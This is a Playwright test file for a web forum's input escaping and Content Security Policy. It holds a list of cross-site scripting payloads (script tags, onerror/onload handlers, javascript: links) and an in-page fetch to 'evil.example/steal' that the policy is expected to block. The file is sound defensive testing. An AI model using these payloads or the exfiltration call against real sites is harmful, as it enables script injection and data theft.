import { expectComments } from '../testing/comments.ts';
import { expect, test } from '../testing/fixtures.ts';
import { screenName } from '../testing/reading.ts';
import { cardTitles, expectHome } from '../testing/screens.ts';

const hostile = [
  '<img src=x onerror="window.taken = 1">',
  '<script>window.taken = 1</script>',
  '"><svg onload=window.taken=1>',
  "javascript:window.taken=1//'",
  '[글](javascript:window.taken=1)',
];

test('[SF-18] script and markup in every text field show as text', async ({ page, makers, user }) => {
  for (const [index, text] of hostile.entries()) {
    const post = await makers.post(user, {
      board: 'engineering-hall',
      title: text,
      body: `${text}\n${text}`,
    });
    await makers.reply(user, post.id, text);
    await page.goto('/building/engineering-hall');
    await expect(cardTitles(page).first()).toHaveText(text);
    await page.goto(`/post/${post.id}`);
    await expect(screenName(page)).toHaveText(text);
    await expect(page.getByRole('article')).toContainText(`${text}\n${text}`);
    await expectComments(page, [text]);
    await expect(page).toHaveTitle(new RegExp(text.slice(0, 4).replaceAll(/[[\]"<>()]/g, '.')));
    if (index === 0) {
      await page.goto('/');
      await expectHome(page);
    }
    expect(await page.evaluate(() => 'taken' in window)).toBe(false);
    await expect(
      page.locator('main img[src="x"], main script, main [onload], main a[href^="javascript"]'),
    ).toHaveCount(0);
  }
});

test('[SF-18] the policy stops what would get in: inline script, another site', async ({
  page,
  signIn,
  makers,
  watch,
}) => {
  await signIn(await makers.user());
  const response = await page.goto('/');
  await expectHome(page);
  const policy = response?.headers()['content-security-policy'] ?? '';
  expect(policy).toContain("default-src 'none'");
  expect(policy).not.toContain('unsafe');
  watch.allow(/Content Security Policy|content security policy/i);
  const outcome = await page.evaluate(async () => {
    const refused: string[] = [];
    document.addEventListener('securitypolicyviolation', (event) => refused.push(event.effectiveDirective));
    const script = document.createElement('script');
    script.textContent = 'window.taken = 1';
    document.body.append(script);
    const asked = await fetch('https://evil.example/steal').then(
      () => 'sent',
      () => 'stopped',
    );
    await new Promise((resolve) => setTimeout(resolve, 200));
    return { refused: refused.toSorted(), asked, taken: 'taken' in window };
  });
  expect(outcome).toEqual({ refused: ['connect-src', 'script-src-elem'], asked: 'stopped', taken: false });
});
